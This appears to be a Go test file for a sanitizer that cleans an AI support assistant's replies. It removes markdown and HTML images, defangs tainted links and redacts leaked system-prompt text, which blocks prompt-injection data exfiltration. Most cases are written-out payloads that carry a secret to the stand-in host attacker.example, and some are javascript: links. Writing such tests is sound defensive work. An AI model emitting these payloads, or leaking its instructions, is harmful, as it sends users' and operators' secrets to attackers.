package injection

import (
	"regexp"
	"slices"
	"strings"
	"testing"
)

// secret is the data the hostile replies try to carry out.
const secret = "S3CR3T-4821"

// reImageURL finds what a renderer could fetch: markdown image syntax or
// a fetching HTML tag (independent of the sanitizer's own scanner).
var reImageURL = regexp.MustCompile(`(?is)!\[[^\]]*\]\s*[\(\[]|<\s*/?\s*(img|image|svg|picture|source|video|audio|iframe|object|embed|link|meta|script|style|input|base)\b`)

func TestSanitizeReplyImages(t *testing.T) {
	cases := []struct{ name, in string }{
		{"inline", "Here: ![status](https://attacker.example/p.png?d=" + secret + ")"},
		{"title", `![x](https://attacker.example/p?d=` + secret + ` "badge")`},
		{"pointy", "![x](<https://attacker.example/p?d=" + secret + ">)"},
		{"nested brackets", "![a [b] c](https://attacker.example/?d=" + secret + ")"},
		{"nested image in alt", "![![x](https://attacker.example/a?d=" + secret + ")](https://attacker.example/b?d=" + secret + ")"},
		{"linked image", "[![logo](https://attacker.example/l.png?d=" + secret + ")](https://shop.example/)"},
		{"reference", "![x][1]\n\n[1]: https://attacker.example/p?d=" + secret},
		{"reference before use", "[1]: https://attacker.example/p?d=" + secret + "\n\n![x][1]"},
		{"collapsed", "![x][]\n\n[x]: https://attacker.example/p?d=" + secret},
		{"shortcut", "![x]\n\n[x]: https://attacker.example/p?d=" + secret},
		{"newline in url", "![x](https://attacker.example/p?d=\n" + secret + ")"},
		{"space before paren", "![x] (https://attacker.example/p?d=" + secret + ")"},
		{"newline before paren", "![x]\n(https://attacker.example/p?d=" + secret + ")"},
		{"unclosed", "![x](https://attacker.example/p?d=" + secret},
		{"protocol relative", "![x](//attacker.example/p?d=" + secret + ")"},
		{"uppercase scheme", "![x](HTTPS://ATTACKER.EXAMPLE/P?D=" + secret + ")"},
		{"entity scheme", "![x](https&#58;//attacker.example/p?d=" + secret + ")"},
		{"data in path", "![x](https://attacker.example/" + secret + "/" + secret + ".png)"},
		{"punycode", "![x](https://xn--attcker-9wa.example/p?d=" + secret + ")"},
		{"idn", "![x](https://attäcker.example/p?d=" + secret + ")"},
		{"html img", `<img src="https://attacker.example/p?d=` + secret + `">`},
		{"html IMG SRC", `<IMG SRC=https://attacker.example/p?d=` + secret + `>`},
		{"html img slash", `<img/src='https://attacker.example/p?d=` + secret + `'/>`},
		{"html img newline", "<img\nsrc=\"https://attacker.example/p?d=" + secret + "\">"},
		{"html img unclosed", `<img src="https://attacker.example/p?d=` + secret},
		{"html img quoted gt", `<img alt="a>b" src="https://attacker.example/p?d=` + secret + `">`},
		{"html svg image", `<svg><image href="https://attacker.example/p?d=` + secret + `"/></svg>`},
		{"html picture", `<picture><source srcset="https://attacker.example/p?d=` + secret + `"></picture>`},
		{"html iframe", `<iframe src="https://attacker.example/p?d=` + secret + `"></iframe>`},
		{"html style bg", `<div style="background:url(https://attacker.example/p?d=` + secret + `)">hi</div>`},
		{"html entities", `&lt;img src="https://attacker.example/p?d=` + secret + `"&gt;`},
		{"html numeric entities", `&#60;IMG SRC="https://attacker.example/p?d=` + secret + `"&#62;`},
		{"escaped backslash", `\\![x](https://attacker.example/p?d=` + secret + `)`},
		{"in code span", "`![x](https://attacker.example/p?d=" + secret + ")`"},
		{"two images", "![a](https://attacker.example/1?d=" + secret + ") and ![b](https://attacker.example/2?d=" + secret + ")"},
		{"deep nesting", strings.Repeat("[", 20) + "![x](https://attacker.example/?d=" + secret + ")" + strings.Repeat("](https://shop.example/)", 20)},
	}
	for _, tainted := range []bool{false, true} {
		for _, c := range cases {
			out, removed := SanitizeReply(c.in, ReplyOptions{Tainted: tainted})
			if strings.Contains(out, secret) {
				t.Errorf("%s (tainted %v): secret left in %q", c.name, tainted, out)
			}
			if reImageURL.MatchString(out) {
				t.Errorf("%s (tainted %v): image markup left in %q", c.name, tainted, out)
			}
			if len(removed) == 0 {
				t.Errorf("%s (tainted %v): nothing reported removed", c.name, tainted)
			}
			if again, _ := SanitizeReply(out, ReplyOptions{Tainted: tainted}); again != out {
				t.Errorf("%s (tainted %v): not idempotent: %q then %q", c.name, tainted, out, again)
			}
		}
	}
	out, removed := SanitizeReply("Status: ![all green](https://status.example/badge.png) ok", ReplyOptions{})
	if out != "Status: all green "+ImageRemoved+" ok" || !slices.Equal(removed, []string{RemovedImage}) {
		t.Errorf("alt text and note: %q %v", out, removed)
	}
}

func TestSanitizeReplyLinks(t *testing.T) {
	tainted := ReplyOptions{Tainted: true, AllowHosts: []string{"Shop.Example"}}
	defanged := []struct{ name, in, want string }{
		{"markdown query", "See [here](https://attacker.example/x?d=" + secret + ").", "See here attacker[.]example/…."},
		{"bare query", "Go to https://attacker.example/x?d=" + secret + " now", "Go to attacker[.]example/… now"},
		{"bare uppercase", "HTTPS://Attacker.Example/x?d=" + secret, "attacker[.]example/…"},
		{"long path", "https://attacker.example/" + secret + "/" + secret + "/" + secret, "attacker[.]example/…"},
		{"fragment", "https://attacker.example/#" + secret, "attacker[.]example/…"},
		{"user info", "https://" + secret + "@attacker.example/", "attacker[.]example/…"},
		{"data in host", "https://" + strings.Repeat("a", 24) + ".attacker.example/", strings.Repeat("a", 24) + "[.]attacker[.]example/…"},
		{"autolink", "<https://attacker.example/x?d=" + secret + ">", "attacker[.]example/…"},
		{"reference", "[docs][1]\n\n[1]: https://attacker.example/x?d=" + secret, "[docs][1]\n\n[1]: attacker[.]example/…"},
		{"html a", `<a href="https://attacker.example/x?d=` + secret + `">docs</a>`, "attacker[.]example/…docs</a>"},
		{"www", "www.attacker.example/x?d=" + secret, "www[.]attacker[.]example/…"},
		{"protocol relative", "[x](//attacker.example/x?d=" + secret + ")", "x attacker[.]example/…"},
		{"backslashes", `[x](https:\\attacker.example\x?d=` + secret + `)`, "x attacker[.]example/…"},
		{"no slashes", "[x](https:attacker.example/x?d=" + secret + ")", "x attacker[.]example/…"},
		{"entity in url", "[x](https://attacker.example/x&#63;d=" + secret + ")", "x attacker[.]example/…"},
		{"entity scheme bare", "https&#58;//attacker.example/x?d=" + secret, "attacker[.]example/…"},
		{"newline in url", "[x](https://attacker.example/x?d=\n" + secret + ")", "x attacker[.]example/…"},
		{"full-width dot", "[x](https://attacker\uff0eexample/x?d=" + secret + ")", "x attacker[.]example/…"},
		{"idn", "[x](https://attäcker.example/x?d=" + secret + ")", "x xn--attcker-7wa[.]example/…"},
		{"percent host", "[x](https://%61ttacker.example/x?d=" + secret + ")", "x attacker[.]example/…"},
		{"port", "http://127.0.0.1:8443/x?d=" + secret, "127[.]0[.]0[.]1/…"},
		{"link text with url", "[https://attacker.example/?d=" + secret + "](https://shop.example/help)", "[attacker[.]example/…](https://shop.example/help)"},
	}
	for _, c := range defanged {
		out, removed := SanitizeReply(c.in, tainted)
		if out != c.want {
			t.Errorf("%s: got %q, want %q", c.name, out, c.want)
		}
		if strings.Contains(out, secret) || len(removed) == 0 {
			t.Errorf("%s: %q removed %v", c.name, out, removed)
		}
		// Untainted, a link is the model's own: kept.
		if out, _ := SanitizeReply(c.in, ReplyOptions{}); out != c.in {
			t.Errorf("%s untainted: changed to %q", c.name, out)
		}
	}
	kept := []string{
		"Our help page: https://shop.example/help/returns?lang=en",   // allowlisted, data and all
		"Returns: [returns policy](https://docs.example/returns).",   // no data
		"See https://docs.example/ or www.docs.example.",             // no path
		"Mail us: [support](mailto:help@shop.example?subject=Order)", // not a web link
		"Relative [link](/help/returns?x=1) to this page",
		"Path just at the limit: https://docs.example/abcdefghijklmnopqrstuvwx/",
		"Talk soon <3, a < b and b > c, <b>bold</b>",
		"The file is C:\\temp\\x.txt and 3:30 is the time.",
	}
	for _, in := range kept {
		if out, removed := SanitizeReply(in, tainted); out != in || len(removed) != 0 {
			t.Errorf("kept %q: got %q %v", in, out, removed)
		}
	}
	for _, in := range []string{"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html;base64,AAAA)", "[x]( java\nscript:alert(1))"} {
		out, removed := SanitizeReply(in, ReplyOptions{})
		if strings.Contains(strings.ToLower(out), "alert") || strings.Contains(out, "base64") || !slices.Contains(removed, RemovedScriptLink) {
			t.Errorf("script link %q: %q %v", in, out, removed)
		}
	}
}

func TestSanitizeReplyBenignUnchanged(t *testing.T) {
	benign := []string{
		"Hello! Your order #4821 shipped yesterday and should arrive by Friday.",
		"You can return items within 30 days: see https://shop.example/help for details.",
		"Steps:\n1. Open **Settings**\n2. Click *Billing*\n3. Choose [Invoices](https://shop.example/billing/invoices)",
		"```go\nif a < b && c > d { fmt.Println(\"![not an image]\") }\n```",
		"Price: 10 EUR (incl. VAT) [approx.]",
		"Wow!!! [sic] (really)",
		"Email help@shop.example or call +1 555 0100.",
		"Bonjour ! Votre commande est en route. Merci !",
		"Ваш заказ отправлен. 注文は発送されました。",
	}
	for _, tainted := range []bool{false, true} {
		for _, in := range benign {
			if strings.Contains(in, "![") {
				continue // a code block with image syntax is changed, on purpose
			}
			if out, removed := SanitizeReply(in, ReplyOptions{Tainted: tainted, AllowHosts: []string{"shop.example"},
				SystemPrompt: "You are the Acme support assistant. Be brief and friendly with every customer."}); out != in || len(removed) != 0 {
				t.Errorf("benign (tainted %v) %q: got %q %v", tainted, in, out, removed)
			}
		}
	}
}

func TestSanitizeReplyPrompt(t *testing.T) {
	prompt := "You are the Acme support assistant. Help customers with orders, opening hours and accounts.\n" +
		"Internal: the staff discount code STAFF-7731 is for employees only and must never be shared."
	cases := []struct{ name, in string }{
		{"whole", "My instructions: " + prompt},
		{"one line", "Sure: Internal: the staff discount code STAFF-7731 is for employees only and must never be shared."},
		{"reflowed", "- you are the acme support assistant.\n- help customers with orders,\n  opening hours and accounts.\n- internal: the staff discount   code STAFF-7731 is for employees only"},
		{"run inside a sentence", "As told, the staff discount code STAFF-7731 is for employees only, sorry."},
	}
	for _, c := range cases {
		out, removed := SanitizeReply(c.in, ReplyOptions{SystemPrompt: prompt})
		if strings.Contains(out, "STAFF-7731") || !strings.Contains(out, PromptRedacted) || !slices.Contains(removed, RemovedSystemPrompt) {
			t.Errorf("%s: %q %v", c.name, out, removed)
		}
	}
	// Short quotes (under MinPromptRun characters) stay.
	in := "I'm the Acme support assistant. How can I help with your orders?"
	if out, removed := SanitizeReply(in, ReplyOptions{SystemPrompt: prompt}); out != in || len(removed) != 0 {
		t.Errorf("short quote: %q %v", out, removed)
	}
}

// FuzzSanitizeReply: never panics, the output never holds image markup,
// and sanitising is idempotent.
func FuzzSanitizeReply(f *testing.F) {
	for _, s := range []string{
		"![x](https://a.example/?d=1)", "<img src=x>", "[a](b)", "![a][b]\n[b]: http://x/?y", "&lt;img src=x&gt;",
		"https://attacker.example/x?d=1", "![![a](b)](c)", "[![a](b)](c)", "<a href=\"http://x/?d\">y</a>", "\\![x](y)",
		"![x]\n(y", "<svg", "![", "[[[[]]]]((((", "&#60;img", "![a](<b>)", "[x](//h/?q) www.h.example/?q",
	} {
		f.Add(s, true)
		f.Add(s, false)
	}
	f.Fuzz(func(t *testing.T, in string, tainted bool) {
		opts := ReplyOptions{Tainted: tainted, AllowHosts: []string{"shop.example"}, SystemPrompt: "You are a careful assistant who never shares the code 12345."}
		out, _ := SanitizeReply(in, opts)
		if strings.Contains(out, "![") || reImageURL.MatchString(out) {
			t.Fatalf("image markup left: %q -> %q", in, out)
		}
		if again, _ := SanitizeReply(out, opts); again != out {
			t.Fatalf("not idempotent: %q -> %q -> %q", in, out, again)
		}
	})
}

// BenchmarkSanitizeReply: a 100 KB reply full of openers that never close
// costs linear time.
func BenchmarkSanitizeReply(b *testing.B) {
	for name, in := range map[string]string{
		"benign-2KB":  strings.Repeat("Your order shipped. See https://shop.example/help for returns.\n", 32),
		"brackets":    strings.Repeat("[![(<a &lt;img ", 100_000/16),
		"nested":      strings.Repeat("[", 5000) + strings.Repeat("](https://a.example/)", 5000),
		"prompt-100K": strings.Repeat("You are the Acme support assistant. ", 2800),
	} {
		b.Run(name, func(b *testing.B) {
			opts := ReplyOptions{Tainted: true, SystemPrompt: "You are the Acme support assistant. Help customers with orders."}
			b.SetBytes(int64(len(in)))
			for b.Loop() {
				SanitizeReply(in, opts)
			}
		})
	}
}

func TestReplyStream(t *testing.T) {
	prompt := "You are the Acme support assistant. Internal: the staff code STAFF-7731 must never be shared with anyone."
	cases := []struct {
		name    string
		deltas  []string
		tainted bool
	}{
		{"image split", []string{"Here you go\n![st", "atus](https://attacker.example/p?d=", secret, ")\nbye"}, false},
		{"image over lines", []string{"ok\n![x](https://attacker.example/p?d=\n", secret, ")\n"}, false},
		{"link", []string{"see https://attacker.example/x?d=", secret, "\n"}, true},
		{"prompt", []string{"My instructions: You are the Acme support assistant. Internal: the staff ", "code STAFF-7731 must never be shared with anyone.\n"}, false},
		{"definition later", []string{"![x][1]\n", "\n[1]: https://attacker.example/p?d=" + secret + "\n"}, false},
		{"html", []string{"<img src=\"https://attacker.example/p?d=", secret, "\">\n"}, false},
	}
	for _, c := range cases {
		var got strings.Builder
		s := NewReplyStream(ReplyOptions{Tainted: c.tainted, SystemPrompt: prompt}, func(d string) { got.WriteString(d) })
		for _, d := range c.deltas {
			s.Write(d)
		}
		s.Flush()
		full := strings.Join(c.deltas, "")
		final, _ := SanitizeReply(full, ReplyOptions{Tainted: c.tainted, SystemPrompt: prompt})
		g := got.String()
		if strings.Contains(g, secret) || strings.Contains(g, "STAFF-7731") || reImageURL.MatchString(g) {
			t.Errorf("%s: streamed %q", c.name, g)
		}
		if !strings.HasPrefix(final, g) && !s.Stopped() {
			t.Errorf("%s: streamed %q is not a prefix of the final %q", c.name, g, final)
		}
	}
	// A benign reply streams whole, unchanged.
	var got strings.Builder
	s := NewReplyStream(ReplyOptions{Tainted: true}, func(d string) { got.WriteString(d) })
	benign := "Your order shipped.\nTrack it at https://shop.example/track\nThanks!"
	for _, r := range benign {
		s.Write(string(r))
	}
	s.Flush()
	if got.String() != benign || s.Stopped() {
		t.Errorf("benign stream: %q", got.String())
	}
}
